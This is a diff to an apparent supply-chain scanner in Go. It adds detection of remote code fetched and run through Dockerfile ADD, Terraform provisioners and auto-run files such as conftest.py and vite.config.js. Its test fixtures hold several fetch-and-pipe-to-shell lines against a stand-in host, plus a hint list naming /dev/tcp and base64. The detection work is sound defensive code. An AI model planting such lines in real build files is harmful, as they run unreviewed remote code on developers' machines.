@@ -51,8 +51,12 @@ var (
 		Title:  "Something is fetched and run, or sent away",
 		Text:   "The build, the container or the script runs what it gets from the network or out of a decoder, opens a shell to another host, or sends private data away. ",
 		Remedy: "Pin what is fetched by its digest, and run nothing that nobody read.",
-		Hits:   []Example{{"Dockerfile", "FROM x\nRUN apt-get update && \\\n  curl -s https://e.example/x | sh\n"}, {"Makefile", "all:\n\tcurl https://e.example/x | bash\n"}, {"x.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n"}},
-		Misses: []Example{{"Dockerfile", "FROM x\nRUN curl -o x https://e.example/x && sha256sum -c x.sum\n"}, {"Makefile", "all:\n\tgo build\n\t@echo 'curl https://x | sh'\n"}},
+		Hits: []Example{{"Dockerfile", "FROM x\nRUN apt-get update && \\\n  curl -s https://e.example/x | sh\n"}, {"Makefile", "all:\n\tcurl https://e.example/x | bash\n"}, {"x.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n"},
+			{"Dockerfile", "FROM x\nADD --chmod=755 https://e.example/x.sh /opt/\nRUN sh /opt/x.sh\n"}, {"conftest.py", "import subprocess\nsubprocess.run('curl https://e.example/x | sh', shell=True)\n"},
+			{"vite.config.js", "require('child_process').execSync('curl https://e.example/x | sh')\n"}, {"Rakefile", "system('curl https://e.example/x | sh')\n"},
+			{"main.tf", "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"curl https://e.example/x | sh\"]\n}\n"}, {"main.tf", "provisioner \"local-exec\" {\n  command = \"curl https://e.example/x | sh\"\n}\n"}},
+		Misses: []Example{{"Dockerfile", "FROM x\nRUN curl -o x https://e.example/x && sha256sum -c x.sum\n"}, {"Makefile", "all:\n\tgo build\n\t@echo 'curl https://x | sh'\n"},
+			{"Dockerfile", "FROM x\nADD https://e.example/x.json /opt/x.json\nRUN make /opt/x\n"}, {"conftest.py", "import requests\nX = requests.get('http://localhost/x').json()\n"}, {"main.tf", "command = \"echo done\"\n"}},
 	}
 	buildRules = []*Rule{installScript, registry, buildProgram, lockSource, fetchAndRun}
 )
@@ -200,9 +204,16 @@ var hints = []string{"curl", "wget", "http", "base64", "/dev/tcp", "/dev/udp", "
 // scripts reads the commands of container files, make files and shell scripts.
 func (f *file) scripts() {
 	var form func(string) string
+	matters := hinted
 	switch ext := path.Ext(f.base); {
 	case f.base == "dockerfile" || f.base == "containerfile" || strings.HasPrefix(f.base, "dockerfile.") || ext == ".dockerfile":
+		var added strings.Builder // what the image fetched without a command
+		matters = func(l string) bool { return added.Len() > 0 || hinted(l) }
 		form = func(l string) string {
+			if v, ok := cutWord(l, "add"); ok {
+				added.WriteString(download(v))
+				return ""
+			}
 			v, ok := cutWord(l, "run")
 			if !ok {
 				return ""
@@ -213,9 +224,9 @@ func (f *file) scripts() {
 			}
 			var words []any
 			if strings.HasPrefix(v, "[") && json.Unmarshal([]byte(v), &words) == nil {
-				return joined(words, nil)
+				v = joined(words, nil)
 			}
-			return v
+			return added.String() + v
 		}
 	case f.base == "makefile" || f.base == "gnumakefile" || ext == ".mk" || f.base == "justfile":
 		form = func(l string) string {
@@ -226,10 +237,80 @@ func (f *file) scripts() {
 		}
 	case ext == ".sh" || ext == ".bash" || strings.HasPrefix(f.text, "#!/bin/sh") || strings.HasPrefix(f.text, "#!/bin/bash") || strings.HasPrefix(f.text, "#!/usr/bin/env bash") || strings.HasPrefix(f.text, "#!/usr/bin/env sh"):
 		form = func(l string) string { return l }
+	case ext == ".tf" || ext == ".hcl":
+		form = terraformCommand
 	default:
+		if program := interpreter(f.base); program != "" {
+			f.fetches(0, program+" "+path.Base(f.path))
+		}
 		return
 	}
-	f.lines(form)
+	f.lines(form, matters)
+}
+
+// interpreter returns the program that runs a file of this name when somebody builds, tests or
+// opens the project, without naming the file. setup.py and build.rs have a rule of their own.
+func interpreter(base string) string {
+	switch base {
+	case "conftest.py", "noxfile.py", "sitecustomize.py", "usercustomize.py":
+		return "python3"
+	case "gulpfile.js", "gruntfile.js", ".pnpmfile.cjs", ".eslintrc.js", ".eslintrc.cjs", ".prettierrc.js", ".babelrc.js", ".mocharc.js", ".mocharc.cjs":
+		return "node"
+	case "gemfile", "rakefile", "podfile", "vagrantfile", "brewfile", "fastfile", "dangerfile":
+		return "ruby"
+	case "makefile.pl", "build.pl":
+		return "perl"
+	case ".rprofile":
+		return "Rscript"
+	}
+	switch ext := path.Ext(base); {
+	case ext == ".gemspec":
+		return "ruby"
+	case (ext == ".js" || ext == ".cjs" || ext == ".mjs" || ext == ".ts") && strings.HasSuffix(strings.TrimSuffix(base, ext), ".config"):
+		return "node"
+	}
+	return ""
+}
+
+var terraformField = lazily(`^\s*(command|program|interpreter)\s*=\s*(\[.*\]|".*")\s*$`)
+
+// terraformCommand returns the command of a line that gives one to a provisioner or to the
+// external data source.
+func terraformCommand(l string) string {
+	m := terraformField().FindStringSubmatch(l)
+	if m == nil {
+		return ""
+	}
+	var words []any
+	if json.Unmarshal([]byte(m[2]), &words) == nil {
+		return joined(words, nil)
+	}
+	var text string
+	if json.Unmarshal([]byte(m[2]), &text) != nil {
+		return ""
+	}
+	return text
+}
+
+// download returns the command that does what ADD of a container file does with addresses.
+func download(arguments string) string {
+	words := strings.Fields(arguments)
+	words = slices.DeleteFunc(words, func(w string) bool { return strings.HasPrefix(w, "--") })
+	if len(words) < 2 {
+		return ""
+	}
+	to := words[len(words)-1]
+	var out strings.Builder
+	for _, from := range words[:len(words)-1] {
+		if u, err := url.Parse(from); err == nil && (u.Scheme == "http" || u.Scheme == "https") {
+			file := to
+			if strings.HasSuffix(to, "/") {
+				file += path.Base(u.Path)
+			}
+			out.WriteString("curl -o " + shellWord(file, true) + " " + shellWord(from, true) + "; ")
+		}
+	}
+	return out.String()
 }
 
 // makeRecipe is a line of a recipe as the shell gets it, with make's variables unknown.
@@ -250,8 +331,13 @@ func cutWord(l, word string) (string, bool) {
 	return strings.TrimSpace(l[len(word):]), true
 }
 
+func hinted(l string) bool {
+	l = strings.ToLower(l)
+	return slices.ContainsFunc(hints, func(h string) bool { return strings.Contains(l, h) })
+}
+
 // lines reads each command, continued lines joined, that looks as if it could matter.
-func (f *file) lines(form func(string) string) {
+func (f *file) lines(form func(string) string, matters func(string) bool) {
 	joined, first := "", 0
 	for n, l := range f.numbered() {
 		if joined == "" {
@@ -266,8 +352,7 @@ func (f *file) lines(form func(string) string) {
 		}
 		full := joined + l
 		joined = ""
-		lower := strings.ToLower(full)
-		if !slices.ContainsFunc(hints, func(h string) bool { return strings.Contains(lower, h) }) {
+		if !matters(full) {
 			continue
 		}
 		if c := form(full); c != "" {
